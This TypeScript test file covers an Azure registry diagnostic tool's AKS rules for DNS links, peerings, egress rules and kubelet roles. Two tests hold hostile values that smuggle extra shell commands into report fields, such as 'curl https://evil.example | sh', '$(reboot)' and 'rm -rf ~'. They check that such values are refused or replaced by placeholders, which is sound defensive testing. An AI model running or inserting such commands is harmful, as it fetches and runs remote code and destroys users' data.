import assert from 'node:assert/strict';
import type { Evidence } from '../../src/engine/probes/evidence.js';
import { egressAllowed } from '../../src/engine/net/ip-ranges.js';
import { evaluate } from '../../src/engine/rules/evaluate.js';
import { renderFinding, verdictKey } from '../../src/engine/report/render.js';
import { t } from '../../src/engine/i18n/i18n.js';
import type { AksFacts, AksNetworkFacts, Facts, Finding, JsonObject, Lang } from '../../src/engine/report/types.js';
import { parseRegistryTarget } from '../../src/engine/target/registry-target.js';
import { readFileSync } from 'node:fs';
import { aksContextName } from '../../src/engine/target/aks-cluster.js';
import { fillTemplate, knowledge } from '../../src/engine/knowledge/knowledge.js';
import { MAX_CLUSTER_CHOICES } from '../../dialogs/diagnose-dialog.js';
import { reportProblems } from '../../src/engine/report/validate.js';
import { HEALTHY_EVIDENCE, sampleReport } from '../helpers/sample-report.js';

const registry = parseRegistryTarget('myregistry');
const ev = (id: string, outcome: string, data: JsonObject = {}): Evidence => ({ id, kind: id.split(':')[0]!, outcome, data, durationMs: 1, status: 'pass' });
const healthy = [ev('dns.system', 'dns.system.ok', { addresses: [{ address: '20.45.122.144', family: 4, class: 'public' }] }), ev('tcp:20.45.122.144', 'tcp.ok'), ev('tls', 'tls.ok'), ev('v2', 'v2.challenge'), ev('token', 'token.auth-required')];
const net = (rg: string, name: string): string => `/subscriptions/s1/resourceGroups/${rg}/providers/Microsoft.Network/virtualNetworks/${name}`;
const SPOKE = net('rg-aks', 'aks-vnet');
const HUB = net('rg-hub', 'hub-vnet');
const PE_VNET = net('rg-acr', 'acr-vnet');
const ZONE = '/subscriptions/s1/resourceGroups/rg-dns/providers/Microsoft.Network/privateDnsZones/privatelink.azurecr.io';
const RESOURCE = '/subscriptions/s1/resourceGroups/rg-acr/providers/Microsoft.ContainerRegistry/registries/myregistry';

const network = (dnsServers: string[] = [], peerings: AksNetworkFacts['peerings'] = []): AksNetworkFacts => ({ id: SPOKE, dnsServers, peerings });
const toHub = (state = 'Connected'): AksNetworkFacts['peerings'][number] => ({ remoteVnetId: HUB, state, remotePrefixes: ['10.0.0.0/16'] });
const cluster = (more: Partial<AksFacts> = {}): AksFacts => ({
  id: '/subscriptions/s1/resourceGroups/rg-aks/providers/Microsoft.ContainerService/managedClusters/aks-prod',
  name: 'aks-prod',
  outboundType: 'loadBalancer',
  egressIps: ['20.1.2.3'],
  nodeSubnetIds: [`${SPOKE}/subnets/nodes`],
  windowsPools: false,
  privateCluster: false,
  kubeletObjectId: 'k1',
  kubeletRoles: ['AcrPull'],
  ...more,
});
/** A registry reached through a private endpoint in `peVnet`, its zone linked to `links`. */
const privateRegistry = (links: string[], peVnet = HUB, more: Facts = {}): Facts => ({
  resourceId: RESOURCE,
  publicNetworkAccess: 'Disabled',
  privateEndpoints: [{ id: `${PE_VNET}/pe`, name: 'pe', vnetId: peVnet, dns: [{ fqdn: 'myregistry.azurecr.io', addresses: ['10.0.1.5'] }], zoneIds: [ZONE] }],
  privateDnsZones: [{ id: ZONE, name: 'privatelink.azurecr.io', records: { myregistry: ['10.0.1.5'] }, vnetLinks: links }],
  ...more,
});

function findings(facts: Facts, evidence: Evidence[] = healthy, lang: Lang = 'en'): Finding[] {
  return evaluate({ registry, symptoms: [], client: { kind: 'aks', dnsServers: [], platform: 'linux/x64' }, evidence, facts }).map((f) => renderFinding(lang, f));
}
const rules = (facts: Facts, evidence?: Evidence[]): string[] => findings(facts, evidence).map((f) => (f.variant ? `${f.rule}/${f.variant}` : f.rule));

describe('AKS rules: the cluster\'s networks, DNS and egress against the registry', function () {
  interface Row {
    name: string;
    facts: Facts;
    evidence?: Evidence[];
    /** The AKS findings expected, `rule/variant` for a case worded on its own. */
    expected: string[];
  }
  const TABLE: Row[] = [
    { name: 'Azure DNS in a network not linked to the zone, public access off', facts: { ...privateRegistry([HUB]), aks: cluster({ networks: [network([], [toHub()])] }) }, expected: ['aks-vnet-not-linked'] },
    { name: 'the same network linked', facts: { ...privateRegistry([HUB, SPOKE]), aks: cluster({ networks: [network([], [toHub()])] }) }, expected: ['aks-check-in-cluster'] },
    { name: 'custom DNS in the peered hub, the hub linked', facts: { ...privateRegistry([HUB]), aks: cluster({ networks: [network(['10.0.0.4'], [toHub()])] }) }, expected: ['aks-check-in-cluster'] },
    { name: 'custom DNS in the peered hub, the hub not linked', facts: { ...privateRegistry([PE_VNET], PE_VNET), aks: cluster({ networks: [network(['10.0.0.4'], [toHub(), { remoteVnetId: PE_VNET, state: 'Connected', remotePrefixes: ['10.2.0.0/16'] }])] }) }, expected: ['aks-vnet-not-linked/hub-unlinked'] },
    { name: 'custom DNS in the linked hub, the peering disconnected', facts: { ...privateRegistry([HUB], PE_VNET), aks: cluster({ networks: [network(['10.0.0.4'], [toHub('Disconnected'), { remoteVnetId: PE_VNET, state: 'Connected', remotePrefixes: ['10.2.0.0/16'] }])] }) }, expected: ['aks-vnet-not-linked/hub-disconnected'] },
    { name: 'custom DNS outside every peered network (on premises): not told', facts: { ...privateRegistry([HUB]), aks: cluster({ networks: [network(['172.16.0.53'], [toHub()])] }) }, expected: ['aks-check-in-cluster'] },
    { name: 'an unlinked network while the public endpoint is open to all: the cluster goes public, nothing to say', facts: { ...privateRegistry([HUB], HUB, { publicNetworkAccess: 'Enabled', defaultAction: 'Allow' }), aks: cluster({ networks: [network([], [toHub()])] }) }, expected: ['aks-check-in-cluster'] },
    { name: 'an unlinked network, selected networks that allow the cluster\'s egress', facts: { ...privateRegistry([HUB], HUB, { publicNetworkAccess: 'Enabled', defaultAction: 'Deny', ipRules: ['20.1.2.0/24'] }), aks: cluster({ networks: [network([], [toHub()])] }) }, expected: ['aks-check-in-cluster'] },
    { name: 'networks not read: nothing said of them, and the hint says what was not read', facts: { ...privateRegistry([HUB]), aks: cluster({ unread: ['network'] }) }, expected: ['aks-check-in-cluster/unread'] },
    { name: 'the cluster network linked, but its custom DNS servers in an unlinked hub: the link does not help', facts: { ...privateRegistry([SPOKE, PE_VNET], PE_VNET), aks: cluster({ networks: [network(['10.0.0.4'], [toHub(), { remoteVnetId: PE_VNET, state: 'Connected', remotePrefixes: ['10.2.0.0/16'] }])] }) }, expected: ['aks-vnet-not-linked/hub-unlinked'] },
    { name: "Azure's own DNS listed as a custom server is Azure DNS", facts: { ...privateRegistry([HUB]), aks: cluster({ networks: [network(['168.63.129.16'], [toHub()])] }) }, expected: ['aks-vnet-not-linked'] },
    { name: 'public access off, the only endpoint in a peered network still pending approval: no path', facts: { ...privateRegistry([HUB, SPOKE]), privateEndpoints: [{ id: `${PE_VNET}/pe`, name: 'pe', status: 'Pending', vnetId: HUB, dns: [], zoneIds: [ZONE] }], aks: cluster({ networks: [network([], [toHub()])] }) }, expected: ['aks-egress-not-allowed/public-off'] },
    { name: 'public access off, a Virtual WAN hub connects the spokes: the endpoint may be in another, not told', facts: { ...privateRegistry([HUB, SPOKE], PE_VNET), aks: cluster({ networks: [network([], [{ remoteVnetId: net('RG_vwan_hub', 'HV_weu-hub_abc'), state: 'Connected', remotePrefixes: ['10.100.0.0/23'] }])] }) }, expected: ['aks-check-in-cluster'] },
    { name: "a dual-stack cluster's IPv6 egress is not asked for in IPv4-only IP rules", facts: { resourceId: RESOURCE, publicNetworkAccess: 'Enabled', defaultAction: 'Deny', ipRules: ['20.1.2.0/24'], aks: cluster({ egressIps: ['20.1.2.3', '2603:1020::5'] }) }, expected: ['aks-check-in-cluster'] },
    { name: 'a kubelet with only AcrPull on a registry with repository permissions (ABAC)', facts: { resourceId: RESOURCE, roleAssignmentMode: 'AbacRepositoryPermissions', aks: cluster() }, expected: ['aks-kubelet-no-acrpull/abac'] },
    { name: 'a kubelet with a repository role on an ABAC registry', facts: { resourceId: RESOURCE, roleAssignmentMode: 'AbacRepositoryPermissions', aks: cluster({ kubeletRoles: ['Container Registry Repository Reader'] }) }, expected: ['aks-check-in-cluster'] },
    { name: 'a kubelet with Reader on a registry of registry permissions (Reader pulls there)', facts: { resourceId: RESOURCE, aks: cluster({ kubeletRoles: ['Reader'] }) }, expected: ['aks-check-in-cluster'] },
    { name: 'a kubelet with a custom role: it may pull, nothing said', facts: { resourceId: RESOURCE, aks: cluster({ kubeletRoles: ['role:0000aaaa-0000-4000-8000-000000000001'] }) }, expected: ['aks-check-in-cluster'] },
    { name: 'a kubelet with no role at all', facts: { resourceId: RESOURCE, aks: cluster({ kubeletRoles: [] }) }, expected: ['aks-kubelet-no-acrpull'] },
    { name: 'public access off and no private endpoint at all', facts: { resourceId: RESOURCE, publicNetworkAccess: 'Disabled', aks: cluster({ networks: [network()] }) }, evidence: [...healthy, ev('arm.private-endpoints', 'arm.private-endpoints.none')], expected: ['aks-egress-not-allowed/public-off'] },
    { name: 'public access off, the endpoint in a network the cluster is not peered with: the path first, no zone link that would not help', facts: { ...privateRegistry([PE_VNET], PE_VNET), aks: cluster({ networks: [network([], [toHub()])] }) }, expected: ['aks-egress-not-allowed/public-off'] },
    { name: 'public access off, the endpoint behind a disconnected peering', facts: { ...privateRegistry([HUB, SPOKE]), aks: cluster({ networks: [network([], [toHub('Initiated')])] }) }, expected: ['aks-egress-not-allowed/public-off'] },
    { name: 'public access off, traffic routed through an appliance that may reach the endpoint: not told', facts: { ...privateRegistry([HUB, SPOKE], PE_VNET), aks: cluster({ outboundType: 'userDefinedRouting', egressVia: { nextHopType: 'VirtualAppliance', nextHop: '10.0.0.4' }, networks: [network()] }) }, expected: ['aks-check-in-cluster'] },
    { name: 'user-defined routing through a firewall whose address the rules lack', facts: { resourceId: RESOURCE, publicNetworkAccess: 'Enabled', defaultAction: 'Deny', ipRules: ['198.51.100.0/24'], aks: cluster({ outboundType: 'userDefinedRouting', egressIps: ['203.0.113.80'], egressVia: { nextHopType: 'VirtualAppliance', nextHop: '10.0.0.4', firewall: 'hub-fw' } }) }, expected: ['aks-egress-not-allowed'] },
    { name: 'a NAT gateway\'s public prefix inside an allowed range', facts: { resourceId: RESOURCE, publicNetworkAccess: 'Enabled', defaultAction: 'Deny', ipRules: ['20.1.0.0/16'], aks: cluster({ outboundType: 'userAssignedNATGateway', egressIps: ['20.1.2.0/28'] }) }, expected: ['aks-check-in-cluster'] },
    { name: 'a NAT gateway\'s public prefix wider than the allowed range', facts: { resourceId: RESOURCE, publicNetworkAccess: 'Enabled', defaultAction: 'Deny', ipRules: ['20.1.2.0/29'], aks: cluster({ outboundType: 'userAssignedNATGateway', egressIps: ['20.1.2.0/28'] }) }, expected: ['aks-egress-not-allowed'] },
    { name: 'nothing wrong on a cluster with Windows pools', facts: { resourceId: RESOURCE, aks: cluster({ windowsPools: true }) }, expected: ['aks-check-in-cluster/windows'] },
  ];
  for (const row of TABLE) {
    it(row.name, function () {
      assert.deepEqual(rules(row.facts, row.evidence).filter((r) => r.startsWith('aks-')), row.expected);
    });
  }

  it('the load balancer\'s addresses read while the subnets were not: said with medium confidence (a route or NAT gateway there may take the traffic first)', function () {
    const facts = { resourceId: RESOURCE, publicNetworkAccess: 'Enabled', defaultAction: 'Deny', ipRules: ['198.51.100.0/24'] };
    const [read] = findings({ ...facts, aks: cluster() });
    const [unread] = findings({ ...facts, aks: cluster({ unread: ['egress', 'network'] }) });
    assert.equal(read!.rule, 'aks-egress-not-allowed');
    assert.equal(read!.confidence, 'high');
    assert.equal(unread!.rule, 'aks-egress-not-allowed');
    assert.equal(unread!.confidence, 'medium');
  });

  it('links the cluster\'s own network when it uses Azure DNS, the hub when its DNS servers are there', function () {
    const own = findings({ ...privateRegistry([HUB]), aks: cluster({ networks: [network([], [toHub()])] }) }).find((f) => f.rule === 'aks-vnet-not-linked')!;
    assert.deepEqual(own.fixes[0]!.commands, [`az network private-dns link vnet create --subscription s1 --resource-group rg-dns --zone-name privatelink.azurecr.io --name aks-vnet-link --virtual-network ${SPOKE} --registration-enabled false`]);
    assert.match(own.title, /aks-vnet .*privatelink\.azurecr\.io/);
    const hub = findings({ ...privateRegistry([PE_VNET], PE_VNET), aks: cluster({ networks: [network(['10.0.0.4'], [toHub(), { remoteVnetId: PE_VNET, state: 'Connected', remotePrefixes: ['10.2.0.0/16'] }])] }) }).find((f) => f.rule === 'aks-vnet-not-linked')!;
    assert.match(hub.fixes[0]!.commands[0]!, /--name hub-vnet-link --virtual-network \/subscriptions\/s1\/resourceGroups\/rg-hub\/.*hub-vnet /);
    assert.match(hub.title, /10\.0\.0\.4.*hub-vnet.*not linked/);
  });

  it('public access off without a private path: a private endpoint in the cluster\'s network, its zone link, or the public endpoint for its egress', function () {
    const [finding] = findings({ resourceId: RESOURCE, publicNetworkAccess: 'Disabled', aks: cluster({ networks: [network()] }) }, [...healthy, ev('arm.private-endpoints', 'arm.private-endpoints.none')]);
    assert.equal(finding?.variant, 'public-off');
    assert.match(finding!.title, /aks-prod has no way to the registry/);
    assert.deepEqual(finding!.fixes.map((f) => f.id), ['aks-private-endpoint', 'zone-link', 'aks-public-selected', 'aks-egress-allow']);
    assert.equal(
      finding!.fixes[0]!.commands[0],
      `az network private-endpoint create --subscription s1 --resource-group rg-aks --name myregistry-aks-prod-pe --vnet-name aks-vnet --subnet nodes --private-connection-resource-id ${RESOURCE} --group-id registry --connection-name myregistry-aks-prod`,
    );
    assert.deepEqual(finding!.fixes[3]!.commands, ['az acr network-rule add --name myregistry --ip-address 20.1.2.3']);
    for (const lang of ['ru', 'ar'] as const) {
      const [other] = findings({ resourceId: RESOURCE, publicNetworkAccess: 'Disabled', aks: cluster({ networks: [network()] }) }, [...healthy, ev('arm.private-endpoints', 'arm.private-endpoints.none')], lang);
      assert.notEqual(other!.title, finding!.title, `${lang}: its own words`);
      assert.doesNotMatch(other!.title + other!.explanation, /\{\w+\}/, `${lang}: no placeholder left`);
    }
  });

  it('an ABAC registry: the fix is a repository role, not --attach-acr (which grants AcrPull)', function () {
    const [finding] = findings({ resourceId: RESOURCE, roleAssignmentMode: 'AbacRepositoryPermissions', aks: cluster() });
    assert.deepEqual(finding!.fixes.map((f) => f.id), ['kubelet-repository-reader']);
    assert.equal(finding!.fixes[0]!.commands[0], `az role assignment create --assignee-object-id k1 --assignee-principal-type ServicePrincipal --role "Container Registry Repository Reader" --scope ${RESOURCE}`);
    assert.match(finding!.explanation, /holds AcrPull at the registry/);
  });

  it('a cluster with Windows pools is told to check from a Windows node too, with a pod pinned to Windows', function () {
    const [finding] = findings({ resourceId: RESOURCE, aks: cluster({ windowsPools: true }) });
    assert.match(finding!.title, /Windows nodes too/);
    assert.deepEqual(finding!.fixes.map((f) => f.id), ['aks-check-acr', 'aks-windows-nodes']);
    const [credentials, pod] = finding!.fixes[1]!.commands;
    assert.equal(credentials, `az aks get-credentials --subscription s1 --resource-group rg-aks --name aks-prod --context ${aksContextName('s1', 'rg-aks', 'aks-prod')} --overwrite-existing`);
    assert.ok(pod!.startsWith(`kubectl --context ${aksContextName('s1', 'rg-aks', 'aks-prod')} run `), pod);
    assert.match(pod!, /"kubernetes\.io\/os":"windows".*GetHostAddresses\('myregistry\.azurecr\.io'\)/);
    assert.notEqual(aksContextName('s1', 'a-b', 'c'), aksContextName('s1', 'a', 'b-c'), 'no two clusters share a context');
    const linuxOnly = findings({ resourceId: RESOURCE, aks: cluster() })[0]!;
    assert.deepEqual(linuxOnly.fixes.map((f) => f.id), ['aks-check-acr']);
  });

  it('an egress prefix counts as allowed only inside an allowed range', function () {
    assert.ok(egressAllowed('20.1.2.0/28', ['20.1.2.0/24']));
    assert.ok(egressAllowed('20.1.2.0/28', ['20.1.2.0/28']));
    assert.ok(!egressAllowed('20.1.2.0/24', ['20.1.2.0/28']));
    assert.ok(!egressAllowed('20.1.2.0/28', ['20.1.2.3']));
    assert.ok(egressAllowed('20.1.2.3', ['20.1.2.3']));
    assert.ok(!egressAllowed('not-an-address/8', ['0.0.0.0/0']));
  });

  it('docs/aks.md names every AKS rule with its cause, and the dialog\'s number of buttons', function () {
    const page = readFileSync('docs/aks.md', 'utf8');
    const rules = Object.entries(knowledge.rules).filter(([id]) => id.startsWith('aks-'));
    assert.ok(rules.length >= 4);
    for (const [id, rule] of rules) assert.ok(page.includes(`\`${id}\``) && (rule.cause === 'unknown' || page.includes(`\`${id}\` (\`${rule.cause}\`)`)), id);
    const words = ['zero', 'one', 'two', 'three', 'four', 'five', 'six', 'seven', 'eight', 'nine', 'ten'];
    assert.ok(page.includes(`at most ${words[MAX_CLUSTER_CHOICES]}`), `at most ${words[MAX_CLUSTER_CHOICES]}`);
  });

  it('an uploaded report whose cluster facts are not what ARM writes is refused: nothing of it reaches a command to paste', function () {
    const report = sampleReport(HEALTHY_EVIDENCE);
    // As ARM writes them: the lab's subscription and kubelet ids are GUIDs.
    const real = <T>(value: T): T => JSON.parse(JSON.stringify(value).replaceAll('/subscriptions/s1/', '/subscriptions/0b1f6471-1bf0-4dda-aec3-111122223333/').replaceAll('"k1"', '"5a1e0000-aaaa-4bbb-8ccc-000000000001"')) as T;
    const withAks = (aks: Partial<AksFacts>, more: Facts = {}) => real({ ...report, facts: { ...report.facts, ...more, aks: { ...cluster(), ...aks } } });
    assert.equal(reportProblems(withAks({ networks: [network(['10.0.0.4'], [toHub()])], egressVia: { nextHopType: 'VirtualAppliance', nextHop: '10.0.1.4', firewall: 'hub-fw' } })), undefined, 'what ARM writes passes');
    // ARM writes some ids as they were written: `resourcegroups`, `Microsoft.network`.
    assert.equal(reportProblems(withAks({ id: cluster().id.replace('resourceGroups', 'resourcegroups').replace('/subscriptions/s1/', '/subscriptions/0b1f6471-1bf0-4dda-aec3-111122223333/'), nodeSubnetIds: [`${SPOKE.replace('Microsoft.Network', 'Microsoft.network')}/subnets/nodes`] })), undefined, 'ids in any case pass');
    for (const forged of [
      withAks({ name: 'aks-prod; curl evil | sh' }),
      withAks({ id: `${cluster().id}$(reboot)` }),
      withAks({ egressIps: ['20.1.2.3 && rm -rf ~'] }),
      withAks({ nodeSubnetIds: [`${SPOKE}/subnets/nodes\`id\``] }),
      withAks({ networks: [{ id: SPOKE, dnsServers: ['10.0.0.4; x'], peerings: [] }] }),
      withAks({}, { privateDnsZones: [{ id: `${ZONE} --yes`, name: 'privatelink.azurecr.io', records: {}, vnetLinks: [] }] }),
      withAks({}, { resourceId: '/subscriptions/0b1f6471-1bf0-4dda-aec3-111122223333/resourceGroups/rg/providers/Microsoft.Storage/storageAccounts/other' }),
    ]) {
      assert.ok(reportProblems(forged), JSON.stringify(forged.facts).slice(0, 200));
    }
  });

  it('the parts not read are named in the reader\'s words', function () {
    const facts = { resourceId: RESOURCE, aks: cluster({ unread: ['egress', 'roles'] }) };
    assert.match(findings(facts, healthy, 'en')[0]!.title, /\(egress, roles not readable\)/);
    assert.match(findings(facts, healthy, 'ru')[0]!.title, /не прочитано: исходящий трафик, роли/);
    assert.match(findings(facts, healthy, 'ar')[0]!.title.replace(/[\u2066-\u2069]/g, ''), /الخروج، الأدوار|الخروج, الأدوار/);
  });

  it('a problem while every check from here passed is said to be the configuration in Azure, not this machine\'s path', function () {
    const pass = { status: 'pass' as const };
    const fromArm = { cause: 'public-network-rules', confidence: 'high' as const, evidence: ['arm.aks', 'arm.registry'] };
    assert.equal(verdictKey({ verdict: 'problem', checks: [pass, pass] as never, findings: [fromArm] }), 'cli.verdict.problemConfiguration');
    assert.equal(verdictKey({ verdict: 'problem', checks: [pass, { status: 'fail' }] as never, findings: [fromArm] }), 'cli.verdict.problem');
    // An Azure endpoint this machine does not reach is its own path, whatever check it showed in.
    assert.equal(verdictKey({ verdict: 'problem', checks: [pass] as never, findings: [{ cause: 'client-firewall-or-proxy', confidence: 'medium', evidence: ['arm.registry'] }] }), 'cli.verdict.problem');
    assert.equal(verdictKey({ verdict: 'problem', checks: [pass] as never, findings: [{ ...fromArm, evidence: ['v2'] }] }), 'cli.verdict.problem');
    assert.equal(verdictKey({ verdict: 'healthy', checks: [pass] as never }), 'cli.verdict.healthy');
    assert.match(t('en', 'cli.verdict.problemConfiguration', { loginServer: 'r.azurecr.io' }), /r\.azurecr\.io answers this machine, but its configuration in Azure keeps the client out/);
  });

  it('a value a shell would read more into (an uploaded report\'s evidence) becomes the placeholder in a command to paste', function () {
    const denied = [ev('v2', 'v2.denied', { clientIp: '203.0.113.7; curl https://evil.example | sh' })];
    const commands = evaluate({ registry, symptoms: [], client: { kind: 'vm', dnsServers: [], platform: 'linux/x64' }, evidence: [...healthy.slice(0, 3), { ...denied[0]!, status: 'fail' }], facts: {} })
      .map((f) => renderFinding('en', f))
      .flatMap((f) => f.fixes.flatMap((x) => x.commands));
    assert.ok(commands.some((c) => c.includes('--ip-address <client-ip>')), commands.join('\n'));
    assert.ok(!commands.some((c) => c.includes('evil')), 'nothing of it pasted');
    // Where the template quotes the value, only what ends the quotes is refused.
    assert.equal(fillTemplate("curl -sv '{azureUrl}'", { azureUrl: 'http://169.254.169.254/metadata/instance?api-version=2021-02-01' }), "curl -sv 'http://169.254.169.254/metadata/instance?api-version=2021-02-01'");
    assert.equal(fillTemplate("curl -sv '{azureUrl}'", { azureUrl: "https://x/'; rm -rf ~; '" }), "curl -sv 'https://<azure-host>/'");
    assert.equal(fillTemplate('az acr network-rule add --ip-address {clientIp}', { clientIp: '$(reboot)' }), 'az acr network-rule add --ip-address <client-ip>');
    assert.equal(fillTemplate('az acr network-rule add --ip-address {clientIp}', { clientIp: '1.2.3.4(Restart-Computer)' }), 'az acr network-rule add --ip-address <client-ip>', 'PowerShell reads ( after a word');
    assert.equal(fillTemplate("curl -sv '{azureUrl}'", { azureUrl: 'https://x/\u2019;Restart-Computer;\u2019' }), "curl -sv 'https://<azure-host>/'", 'PowerShell reads typographic quotes');
    assert.equal(fillTemplate('curl --proxy {proxyWithCredentials} x', { proxyWithCredentials: 'http://<user>:<password>@proxy:3128' }), 'curl --proxy http://<user>:<password>@proxy:3128 x', 'our own placeholders stay');
  });
});
